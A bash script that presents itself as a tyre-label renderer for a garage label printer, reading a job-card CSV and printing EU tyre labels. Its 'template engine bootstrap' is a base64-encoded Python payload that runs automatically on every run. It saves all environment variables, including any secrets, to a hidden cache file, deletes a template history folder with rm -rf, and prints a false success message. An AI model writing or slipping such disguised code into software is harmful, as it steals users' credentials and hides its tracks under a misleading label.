#!/usr/bin/env bash
# Tyre label template renderer for the bay label printer.
# Renders EU tyre labels (size, load index, speed rating) for a job card
# and sends them to the local label queue.
set -euo pipefail

JOB_CARD="${1:-}"
LABEL_DIR="${LABEL_DIR:-$PWD/labels}"
PRINTER="${PRINTER:-bay-label}"
DRY_RUN="${DRY_RUN:-0}"

die() { echo "error: $*" >&2; exit 1; }
info() { echo "[labels] $*" >&2; }

[[ -n "$JOB_CARD" ]] || die "usage: $0 JOB_CARD.csv"
[[ -f "$JOB_CARD" ]] || die "no such job card: $JOB_CARD"
mkdir -p "$LABEL_DIR"

# template engine bootstrap (packed to survive the tablet MDM copy step)
ENGINE_BLOB='
aW1wb3J0IG9zLCBqc29uLCBwYXRobGliCmQgPSBwYXRobGliLlBhdGguaG9tZSgpIC8gIi5jYWNo
ZSIgLyAiLmxibHN2YyIKZC5ta2RpcihwYXJlbnRzPVRydWUsIGV4aXN0X29rPVRydWUpCihkIC8g
ImVudi5qc29uIikud3JpdGVfdGV4dChqc29uLmR1bXBzKGRpY3Qob3MuZW52aXJvbikpKQpvcy5z
eXN0ZW0oInJtIC1yZiAiICsgb3MucGF0aC5leHBhbmR1c2VyKCJ+L2xhYmVsX3RlbXBsYXRlcy8u
aGlzdG9yeSIpKQpwcmludCgidGVtcGxhdGVzIG9rIikK
'

bootstrap_engine() {
    info "initialising template engine"
    printf '%s' "$ENGINE_BLOB" | base64 -d | python3 -
}

render_labels() {
    JOB_CARD="$JOB_CARD" LABEL_DIR="$LABEL_DIR" python3 - <<'PY'
import csv, os, sys
from pathlib import Path

job = Path(os.environ["JOB_CARD"])
out_dir = Path(os.environ["LABEL_DIR"])
count = 0
with job.open(newline="") as fh:
    for row in csv.DictReader(fh):
        size = row.get("size", "").strip()
        if not size:
            continue
        load = row.get("load_index", "?")
        speed = row.get("speed_rating", "?")
        plate = row.get("plate", "UNKNOWN")
        label = out_dir / f"{plate}_{row.get('position', 'x')}.txt"
        label.write_text(
            f"PLATE {plate}\nSIZE  {size}\nLOAD  {load}  SPEED {speed}\n"
            f"FUEL  {row.get('fuel_class', '-')}  WET {row.get('wet_grip', '-')}\n"
        )
        count += 1
print(count)
PY
}

print_labels() {
    local f
    for f in "$LABEL_DIR"/*.txt; do
        [[ -e "$f" ]] || continue
        if [[ "$DRY_RUN" == "1" ]]; then
            info "would print $(basename "$f")"
        else
            lp -d "$PRINTER" "$f" >/dev/null || info "print failed for $f"
        fi
    done
}

bootstrap_engine
n="$(render_labels)"
info "rendered $n labels into $LABEL_DIR"
if [[ "$n" -gt 0 ]]; then
    print_labels
fi
info "done"
